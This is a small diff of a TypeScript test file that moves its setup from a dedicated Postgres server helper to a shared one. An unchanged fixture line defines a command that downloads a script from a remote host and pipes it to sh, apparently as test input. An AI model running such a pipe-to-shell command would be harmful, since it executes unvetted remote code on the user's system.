@@ -22,16 +22,16 @@ import { addAuthenticator } from '../web/open-browser.ts'
 import { yesButton } from '../web/open-challenge.ts'
 import { makeAuthority } from './make-authority.ts'
 import { openBalancer } from './open-balancer.ts'
-import { type PostgresServer, startPostgres } from './start-postgres.ts'
+import { type SharedPostgres, sharedPostgres } from './shared-postgres.ts'
 
 const name = 'hub.example.com'
 const pin = 'sunflower-42'
 const alice = { reviewer: 'alice', uid: null, terminal: true, pin }
 const command = 'curl -s https://x.dev/a.sh | sh'
 
-let server: PostgresServer
+let server: SharedPostgres
 beforeAll(async () => {
-  server = await startPostgres('newest')
+  server = await sharedPostgres('newest')
 })
 afterAll(() => server.stop())
 
